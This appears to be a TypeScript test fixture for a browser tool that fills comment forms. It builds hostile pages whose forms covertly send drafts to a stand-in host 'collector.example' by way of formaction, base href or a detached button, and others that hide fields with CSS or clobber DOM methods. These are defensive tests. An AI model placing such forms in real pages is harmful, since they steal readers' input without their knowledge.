import { expect } from 'vitest';
import type { CommentFormState } from '../../src/core/comment-form-state.ts';
import { type HostilePage, story, type Visit } from './hostile-page.ts';

const DRAFT = { name: 'A reader', comment: 'What I think of it' };

interface FormTruth {
  readonly that: string;
  readonly form: string;
  /** What the popup says of where the form sends; undefined where no form may be found at all. */
  readonly sendsTo: string | null | undefined;
}

/** Forms that want the draft somewhere else than where a reader sees it go. The sample story's own form is taken away. */
const FORMS: readonly FormTruth[] = [
  {
    that: 'has a comment form that sends to another host',
    form: '<form action="https://collector.example/take"><label>Comment <textarea name="comment"></textarea></label><input type="hidden" name="author-name" id="hidden"><button type="submit">Post comment</button></form>',
    sendsTo: 'collector.example',
  },
  {
    that: 'has a comment form whose button sends to another host',
    form: '<form action="/comments"><label>Comment <textarea name="comment"></textarea></label><input type="hidden" name="name" id="hidden"><button formaction="https://collector.example/take">Post comment</button></form>',
    sendsTo: 'collector.example',
  },
  {
    that: 'has a comment form whose picture sends to another host',
    form: '<form action="/comments"><label>Comment <textarea name="comment"></textarea></label><input type="image" alt="Post" src="data:," formaction="https://collector.example/take"></form>',
    sendsTo: 'collector.example',
  },
  {
    that: 'has a comment form whose button stands elsewhere and sends to another host',
    form: '<form id="c" action="/comments"><label>Comment <textarea name="comment"></textarea></label></form><button form="c" formaction="https://collector.example/take">Post comment</button>',
    sendsTo: 'collector.example',
  },
  {
    that: 'has a comment form that sends to a script',
    form: '<form action="javascript:void 0"><label>Comment <textarea name="comment"></textarea></label></form>',
    sendsTo: null,
  },
  {
    that: 'has a comment form whose fields are named as the parts of a form',
    form: `<form action="https://collector.example/take">${['action', 'querySelector', 'querySelectorAll', 'getAttribute', 'ownerDocument', 'elements', 'id', 'closest', 'matches', 'contains'].map((name) => `<input type="hidden" name="${name}">`).join('')}<label>Comment <textarea name="comment"></textarea></label><button type="submit">Post comment</button></form>`,
    sendsTo: 'collector.example',
  },
  {
    that: 'has a base that sends its form to another host',
    form: '<base href="https://collector.example/"><form action="comments"><label>Comment <textarea name="comment"></textarea></label></form>',
    sendsTo: 'collector.example',
  },
  ...Object.entries({
    'of no size': 'width: 0; height: 0; border: 0; padding: 0; min-height: 0',
    'that is not drawn': 'display: none',
    'that can not be seen': 'visibility: hidden',
    'far outside the page': 'position: absolute; left: -9999px',
    'without any colour': 'opacity: 0',
    'that is clipped away': 'position: absolute; clip-path: inset(50%)',
  }).map(([how, style]) => ({
    that: `has a comment field ${how}`,
    form: `<form action="/comments"><textarea name="comment" id="hidden" style="${style}"></textarea><button type="submit">Post comment</button></form>`,
    sendsTo: undefined,
  })),
];

const truthOf =
  ({ sendsTo }: FormTruth) =>
  async ({ page, reading, tell }: Visit): Promise<void> => {
    const asked = (await tell('tab/comment-form', {})) as { ok: true; value: CommentFormState };
    expect(asked).toMatchObject({ ok: true, value: { found: sendsTo !== undefined } });
    if (sendsTo !== undefined) expect(asked.value.sendsTo).toBe(sendsTo);
    const url = reading.state === 'read' ? reading.article.url : '';
    await tell('tab/fill-comment-form', { ...DRAFT, url, overwrite: false });
    const [shown, hidden] = await page.evaluate(() => {
      const fields = [...document.querySelectorAll<HTMLTextAreaElement | HTMLInputElement>('textarea, input')];
      const isHidden = (field: Element) => field.id === 'hidden' || (field as HTMLInputElement).type === 'hidden';
      const texts = (which: boolean) => fields.filter((field) => isHidden(field) === which).map(({ value }) => value);
      return [texts(false).join(''), texts(true).join('')];
    });
    expect(hidden).toBe('');
    // Where fields are named like methods, Chromium lets us read no story; then nothing is put anywhere.
    expect(shown).toBe(sendsTo === undefined || url === '' ? '' : DRAFT.comment);
  };

/** The story's own form, and its own scripts, which want one. */
const OWN_FORM = /<form[\s\S]*?<\/form>|<script>[\s\S]*?<\/script>/g;

export const COMMENT_FORMS: readonly HostilePage[] = FORMS.map((each) => ({
  that: each.that,
  html: story()
    .replaceAll(OWN_FORM, '')
    .replace('<button id="own-button">', () => `${each.form}<button id="own-button">`),
  truth: truthOf(each),
  reading: 'any',
}));
